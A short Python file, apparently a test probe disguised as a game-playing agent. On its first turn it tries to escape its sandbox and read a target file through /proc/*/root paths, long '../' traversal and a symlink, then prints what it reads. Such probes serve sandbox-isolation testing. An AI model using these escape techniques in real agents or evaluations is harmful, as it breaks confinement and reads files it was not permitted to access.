"""Read a file outside, by its path, through /proc, and upwards from here."""

import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
TARGET = json.load(open(os.path.join(HERE, "target.json")))


def attack():
    path, pid = TARGET["file"], TARGET["pid"]
    starts = ["", "/proc/self/root", "/proc/1/root", f"/proc/{pid}/root", f"/proc/{os.getppid()}/root", "../" * 20]
    for start in starts:
        try:
            print(open(start + path).read(), flush=True)
        except OSError:
            pass
    try:
        os.symlink(path, "link")
        print(open("link").read(), flush=True)
    except OSError:
        pass


def act(observation):
    if observation.turn == 0:
        attack()
        print("tried", flush=True)
    return observation.legal[0]
